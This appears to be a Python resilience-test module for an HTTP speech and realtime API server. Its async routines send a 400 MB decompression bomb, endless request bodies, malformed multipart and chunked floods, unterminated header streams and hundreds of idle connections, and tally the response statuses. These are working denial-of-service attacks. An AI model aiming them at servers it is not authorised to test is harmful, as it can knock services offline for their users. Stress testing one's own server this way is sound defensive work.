"""Attacks by HTTP: compressed bombs, endless bodies and heads, connections by the hundred."""

import asyncio
import time
import zlib
from collections import Counter
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from itertools import cycle, product
from urllib.parse import urlsplit

BOMB_BYTES = 400 << 20
"""Bytes of zeros in a bomb."""
CODINGS = ("gzip", "deflate", "x-gzip", "GZIP", "br", "zstd", "gzip, gzip")
CHUNK = bytes(1 << 16)


def bomb(size: int = BOMB_BYTES, wbits: int = 31) -> bytes:
    """Returns zeros as gzip (`wbits` 31) or deflate (15), a thousandth of their size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    parts = [packer.compress(bytes(1 << 20)) for _ in range(size >> 20)]
    return b"".join(parts) + packer.flush()


@asynccontextmanager
async def connected(base: str) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    where = urlsplit(base)
    reader, writer = await asyncio.open_connection(where.hostname, where.port)
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


def head(base: str, method: str, path: str, *headers: str) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {urlsplit(base).netloc}", *headers, "", ""]
    return "\r\n".join(lines).encode()


async def status_of(reader: asyncio.StreamReader, seconds: float = 5.0) -> str:
    """Returns the status of the response, or what came instead of one."""
    try:
        async with asyncio.timeout(seconds):
            line = await reader.readline()
    except (TimeoutError, OSError) as error:
        return type(error).__name__
    return line.split()[1].decode() if line.startswith(b"HTTP/") else "closed"


async def compressed_bodies(base: str, seconds: float) -> str:
    """Small compressed bodies that are hundreds of megabytes, to paths with a route and without."""
    packed = await asyncio.to_thread(bomb)
    paths = ("/healthz", "/nothing", "/v1/audio/speech", "/v1/nothing", "/api/offer", "/")
    until, got = time.monotonic() + seconds, Counter[str]()
    for path, coding in cycle(product(paths, CODINGS)):
        if time.monotonic() > until:
            break
        async with connected(base) as (reader, writer):
            length = f"Content-Length: {len(packed)}"
            writer.write(head(base, "POST", path, f"Content-Encoding: {coding}", length))
            writer.write(packed)
            got[await status_of(reader)] += 1
    return _told(got)


async def bodies_nobody_wants(base: str, seconds: float) -> str:
    """Endless bodies to paths that read none."""
    until, got = time.monotonic() + seconds, Counter[str]()
    sent = 0
    while time.monotonic() < until:
        async with connected(base) as (reader, writer):
            writer.write(head(base, "POST", "/nothing", f"Content-Length: {1 << 40}"))
            with suppress(OSError, TimeoutError):
                async with asyncio.timeout(3.0):
                    while not writer.is_closing():
                        writer.write(CHUNK)
                        sent += len(CHUNK)
                        await writer.drain()
            got[await status_of(reader)] += 1
    return f"{_told(got)}, {sent >> 20} MB sent"


async def endless_forms(base: str, seconds: float) -> str:
    """Forms without a boundary, with endless part headers, and with chunks that are all framing."""
    until, got = time.monotonic() + seconds, Counter[str]()
    sent = 0
    endless_header = b"--b\r\nContent-Disposition: form-data; name=x\r\nX: " + CHUNK
    framing = b"1;" + b"e" * 4000 + b"\r\nx\r\n"
    kinds = (CHUNK, b"\r\n" * 4096, b"--b\r\n\r\n\r\n" * 1000, endless_header)
    paths = ("/v1/realtime/calls", "/v1/audio/transcriptions", "/v1/audio/voices")
    for path, block in cycle(product(paths, (*kinds, framing))):
        if time.monotonic() > until:
            break
        async with connected(base) as (reader, writer):
            form = "Content-Type: multipart/form-data; boundary=b"
            writer.write(head(base, "POST", path, form, "Transfer-Encoding: chunked"))
            piece = block if block is framing else b"%x\r\n%s\r\n" % (len(block), block)
            with suppress(OSError, TimeoutError):
                async with asyncio.timeout(3.0):
                    while not writer.is_closing():
                        writer.write(piece)
                        sent += len(piece)
                        await writer.drain()
            got[await status_of(reader)] += 1
    return f"{_told(got)}, {sent >> 20} MB sent"


async def endless_heads(base: str, seconds: float) -> str:
    """Heads of many and long headers without an end."""
    until, got = time.monotonic() + seconds, Counter[str]()
    while time.monotonic() < until:
        async with connected(base) as (reader, writer):
            writer.write(head(base, "GET", "/")[:-2])
            with suppress(OSError):
                for n in range(10_000):
                    writer.write(b"X-%d: %s\r\n" % (n, b"y" * 8000))
                    await writer.drain()
            got[await status_of(reader)] += 1
    return _told(got)


async def idle_connections(base: str, seconds: float, connections: int = 400) -> str:
    """Connections by the hundred, which are opened and left open."""
    where = urlsplit(base)
    writers: list[asyncio.StreamWriter] = []
    try:
        for _ in range(connections):
            with suppress(OSError):
                _, writer = await asyncio.open_connection(where.hostname, where.port)
                writers.append(writer)
        await asyncio.sleep(seconds)
        return f"{len(writers)} connections opened"
    finally:
        for writer in writers:
            writer.transport.abort()


def _told(got: "Counter[str]") -> str:
    return ", ".join(f"{n} × {what}" for what, n in got.most_common()) or "nothing sent"
